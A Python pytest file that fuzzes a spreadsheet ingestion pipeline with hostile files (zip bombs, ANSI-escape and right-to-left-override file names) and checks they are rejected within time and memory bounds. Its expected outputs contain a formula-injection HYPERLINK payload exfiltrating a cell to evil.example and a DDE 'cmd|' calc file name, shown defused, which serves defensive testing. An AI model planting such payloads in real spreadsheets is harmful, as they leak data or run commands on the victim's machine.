"""The fuzz corpus (tests/fuzz/make_fuzz.py): every broken or hostile file ends as its manifest says, within the
bounds below, with its original archived byte for byte, and the run goes on to the next file."""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import io
import json
import os
import runpy
import shutil
import subprocess
import sys
import tempfile
import time
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.conftest import REPO, make_home
from transforms import warehouse
from transforms.bulletin.build import bulletin_folder, load_wording, write_bulletin
from transforms.ingest.ingestor import Ingestor
from transforms.ingest.record import Outcome
from transforms.read.guarded_reader import MEMORY_LIMIT
from transforms.warehouse.audit import audit
from transforms.warehouse.query import write_query_result

MAKE_FUZZ = REPO / "tests" / "fuzz" / "make_fuzz.py"
# The bounds each file must stay within, whatever it holds:
TIME_BOUND = 20.0  # seconds of wall time for one file through Ingestor.ingest (the reader itself is cut at 60 s)
WORKER_MEMORY_BOUND = MEMORY_LIMIT  # 2 GiB: the reading worker's address space, enforced by RLIMIT_AS
PARENT_MEMORY_BOUND = 256 * 2**20  # what the ingesting process may grow by while it takes one file
LANDED = dt.datetime(2023, 12, 23, 9, 0, tzinfo=dt.timezone(dt.timedelta(hours=8)))


def manifest() -> list[dict]:
    """The manifest, made at collection time so that each fuzz file is a test of its own."""
    with tempfile.TemporaryDirectory() as out:
        with contextlib.redirect_stdout(io.StringIO()):
            runpy.run_path(str(MAKE_FUZZ))["main"]([out])
        return json.loads((Path(out) / "manifest.json").read_text(encoding="utf-8"))


def inbox_name(entry: dict) -> str:
    if entry.get("inbox_name_hex"):
        return os.fsdecode(bytes.fromhex(entry["inbox_name_hex"]))
    return entry.get("inbox_name") or entry["file"]


def _peak() -> int:
    with open("/proc/self/status") as fh:
        return next(int(line.split()[1]) * 1024 for line in fh if line.startswith("VmHWM:"))


def _reset_peak() -> None:
    with open("/proc/self/clear_refs", "w") as fh:  # Linux: VmHWM starts again from the current size
        fh.write("5")


@dataclass
class Trial:
    """One file through the Ingestor: what became of it and what it cost."""

    entry: dict
    original: bytes
    path: Path
    outcome: Outcome
    seconds: float
    worker_peak: int | None  # the reading worker's peak resident memory (None: the file never reached it)
    parent_growth: int  # how far this process's peak resident memory rose above where it stood before


@dataclass
class FuzzRun:
    layout: object
    trials: dict[str, Trial]
    workers_started: int


@pytest.fixture(scope="module")
def fuzz(tmp_path_factory, ref, validator) -> FuzzRun:
    """Generate the corpus, land every file in one inbox, ingest them one after another with one Ingestor."""
    corpus = tmp_path_factory.mktemp("fuzz")
    with contextlib.redirect_stdout(io.StringIO()):
        assert runpy.run_path(str(MAKE_FUZZ))["main"]([str(corpus)]) == 0
    entries = json.loads((corpus / "manifest.json").read_text(encoding="utf-8"))
    layout = make_home(tmp_path_factory.mktemp("fuzz-home"))
    ingestor = Ingestor(layout, ref, validator)  # its own reader: a worker killed here is replaced here
    con = warehouse.connect(layout.warehouse)
    trials = {}
    try:
        warehouse.prepare(con, ref)
        for n, entry in enumerate(entries):
            original = (corpus / entry["file"]).read_bytes()
            path = layout.inbox / inbox_name(entry)
            path.write_bytes(original)
            landed = (LANDED + dt.timedelta(minutes=n)).timestamp()
            os.utime(path, (landed, landed))
            _reset_peak()
            before = _peak()
            started = time.perf_counter()
            outcome = ingestor.ingest(path, con)
            seconds = time.perf_counter() - started
            read = ingestor.last_read
            trials[entry["file"]] = Trial(entry, original, path, outcome, seconds,
                                          read.peak_bytes if read else None, _peak() - before)
        warehouse.record_rollup_day(con, LANDED.date())
    finally:
        con.close()
    return FuzzRun(layout, trials, ingestor.reader.workers_started)


def _errors(outcome: Outcome) -> list[str]:
    return [i.rule for i in outcome.issues if i.severity == "error"]


def _as_expected(entry: dict, outcome: Outcome) -> bool:
    """The status, and for a rejection one of the rules the manifest names among the errors."""
    rules = entry["rule"] if isinstance(entry["rule"], list) else [entry["rule"]]
    return outcome.status == entry["status"] and (entry["status"] != "rejected" or
                                                  bool(set(rules) & set(_errors(outcome))))


@pytest.mark.parametrize("entry", manifest(), ids=lambda e: e["file"])
def test_fuzz_file_ends_as_its_manifest_says_within_bounds(entry, fuzz):
    trial = fuzz.trials[entry["file"]]
    outcome = trial.outcome
    assert _as_expected(entry, outcome), outcome.reason
    if entry["status"] == "rejected":
        report = fuzz.layout.home / outcome.report_path
        assert report.parent == fuzz.layout.rejected and report.is_file()
        assert len(report.name.encode("utf-8")) <= 255 and report.name.isprintable()
        text = report.read_text(encoding="utf-8")
        assert outcome.issues[0].message_zh in text and outcome.issues[0].message_en in text
    if entry["status"] == "loaded":
        assert (outcome.unit_code, str(outcome.as_of_date)) == (entry["unit_code"], entry["as_of_date"])
    assert trial.seconds < TIME_BOUND
    assert trial.worker_peak is None or trial.worker_peak <= WORKER_MEMORY_BOUND
    assert trial.parent_growth <= PARENT_MEMORY_BOUND
    assert (fuzz.layout.home / outcome.receipt.archive_path).read_bytes() == trial.original
    assert not trial.path.exists()  # left the inbox: its state is recorded


def test_every_fuzz_file_is_in_exactly_one_final_state_and_the_audit_finds_nothing(fuzz):
    con = warehouse.connect(fuzz.layout.warehouse, read_only=True)
    try:
        rows = con.execute("SELECT file_name, status FROM raw.submissions ORDER BY received_at").fetchall()
        report = audit(con, fuzz.layout)
    finally:
        con.close()
    assert rows == [(t.outcome.receipt.file_name, t.entry["status"]) for t in fuzz.trials.values()]
    assert report.findings == []
    assert list(fuzz.layout.inbox.iterdir()) == []


def test_names_from_outside_are_recorded_readably_and_reports_named_safely(fuzz, tmp_path):
    gbk = fuzz.trials["name_gbk_bytes.xlsx"].outcome
    assert (gbk.receipt.file_name, gbk.unit_code) == ("始兴县_20231222.xlsx", "440222")
    longest = fuzz.trials["name_longest.xlsx"].outcome
    assert Path(longest.report_path).name == "浈" * 66 + f".{longest.receipt.submission_id}.txt"
    control = fuzz.trials["name_control_characters.xlsx"].outcome
    assert Path(control.report_path).name == f"南雄市_报表_[31m_xcod.xlsx.{control.receipt.submission_id}.txt"
    report = (fuzz.layout.home / control.report_path).read_text(encoding="utf-8")  # the name inside, escaped
    assert "\x1b" not in report and "\u202e" not in report and "南雄市\n报表\\x1b[31m\\u202excod.xlsx" in report
    con = warehouse.connect(fuzz.layout.warehouse, read_only=True)
    try:  # the name as recorded, exported by an analyst
        write_query_result(con, "SELECT file_name FROM raw.submissions WHERE status = 'rejected'", tmp_path / "names.csv")
    finally:
        con.close()
    exported = (tmp_path / "names.csv").read_text(encoding="utf-8-sig")
    assert "\x1b" not in exported and "\u202e" not in exported and "报表\\x1b[31m\\u202excod.xlsx" in exported


def test_text_starting_with_a_formula_sign_is_loaded_as_text_and_defused_in_every_csv(fuzz, tmp_path):
    con = warehouse.connect(fuzz.layout.warehouse, read_only=True)
    try:
        write_query_result(con, "SELECT row_label FROM raw.figures JOIN raw.submissions USING (submission_id) "
                          "WHERE file_name = 'formula_like_labels.xlsx' ORDER BY cell", tmp_path / "labels.csv")
        day = LANDED.date()
        written = write_bulletin(con, day, bulletin_folder(tmp_path, day), load_wording(fuzz.layout.reference))
    finally:
        con.close()
    labels = [r[0] for r in csv.reader((tmp_path / "labels.csv").open(encoding="utf-8-sig", newline=""))]
    assert labels == ["row_label", '\'=HYPERLINK("http://evil.example/?"&A1"点击查看")', "'+犁市镇", "'-花坪镇",
                      "'@乐园镇", "东河街道"]  # labels are kept as the parser normalises them (no commas, no tab)
    figures = next(p for p in written if p.name == "figures.csv")
    cells = [c for row in csv.reader(figures.open(encoding="utf-8-sig", newline="")) for c in row]
    assert "'=cmd|' \\C calc'!A0.xlsx" in cells  # the file name, as figures.csv traces 浈江区's figures to it
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_fuzz_run_figures(fuzz, report_figures):
    """States the run's figures: files tried, ended as expected, the largest time and memory any one took."""
    trials = list(fuzz.trials.values())
    rejected = [t for t in trials if t.entry["status"] == "rejected"]
    correct = [t for t in rejected if _as_expected(t.entry, t.outcome)]
    slowest = max(trials, key=lambda t: t.seconds)
    hungriest = max(trials, key=lambda t: t.worker_peak or 0)
    growth = max(trials, key=lambda t: t.parent_growth)
    lines = [
        f"fuzz: {len(trials)} files tried; {len(correct)} of {len(rejected)} rejected correctly, "
        f"{sum(_as_expected(t.entry, t.outcome) for t in trials) - len(correct)} of "
        f"{len(trials) - len(rejected)} others as expected (loaded or duplicate); "
        f"{fuzz.workers_started} reader workers started (one per crash or recycle)",
        f"fuzz: longest {slowest.seconds:.2f} s ({slowest.entry['file']}; bound {TIME_BOUND:.0f} s); "
        f"largest reader memory {(hungriest.worker_peak or 0) / 2**20:.0f} MiB ({hungriest.entry['file']}; bound "
        f"{WORKER_MEMORY_BOUND / 2**30:.0f} GiB); largest growth of the ingesting process "
        f"{growth.parent_growth / 2**20:.0f} MiB ({growth.entry['file']}; bound {PARENT_MEMORY_BOUND / 2**20:.0f} MiB)",
    ]
    report_figures.extend(lines)
    print("\n" + "\n".join(lines))
    assert len(correct) == len(rejected)


@pytest.mark.slow
def test_warmline_ingest_survives_files_that_abort_the_reader(tmp_path, fuzz, prefect_server):
    """The command line, in its own process, over an inbox of reader-killing files and a good one: exit 0."""
    home = tmp_path / "home"
    layout = make_home(home)
    names = ["xlsb_far_corner.xlsb", "far_corner_A1_XFD1048576.xlsx", "zip_bomb_4gib_lying_sizes.xlsx",
             "shared_strings_count_4e9.xlsx", "name_emoji.xlsx"]
    for n, name in enumerate(names):
        trial = fuzz.trials[name]
        target = layout.inbox / trial.path.name
        target.write_bytes(trial.original)
        landed = (LANDED + dt.timedelta(minutes=n)).timestamp()
        os.utime(target, (landed, landed))
    env = {k: v for k, v in os.environ.items() if not k.startswith("PREFECT_")}
    env.update(WARMLINE_HOME=str(home), PREFECT_HOME=str(prefect_server["home"]),
               PREFECT_API_URL=prefect_server["api"], COLUMNS="250")
    result = subprocess.run([str(Path(sys.executable).with_name("warmline")), "ingest"], env=env,
                            capture_output=True, text=True, timeout=600)
    assert result.returncode == 0, result.stderr
    print(result.stdout)
    assert "Files: 1 loaded, 0 superseded, 0 duplicate, 4 rejected" in result.stdout.splitlines()
    assert "stack backtrace" not in result.stdout + result.stderr  # the dying worker's noise stays in the worker
    assert "the reader ran out of memory (limit 2 GiB) (memory allocation of" in result.stdout  # the reason, told
    assert list(layout.inbox.iterdir()) == []
    shutil.rmtree(tmp_path / "prefect", ignore_errors=True)
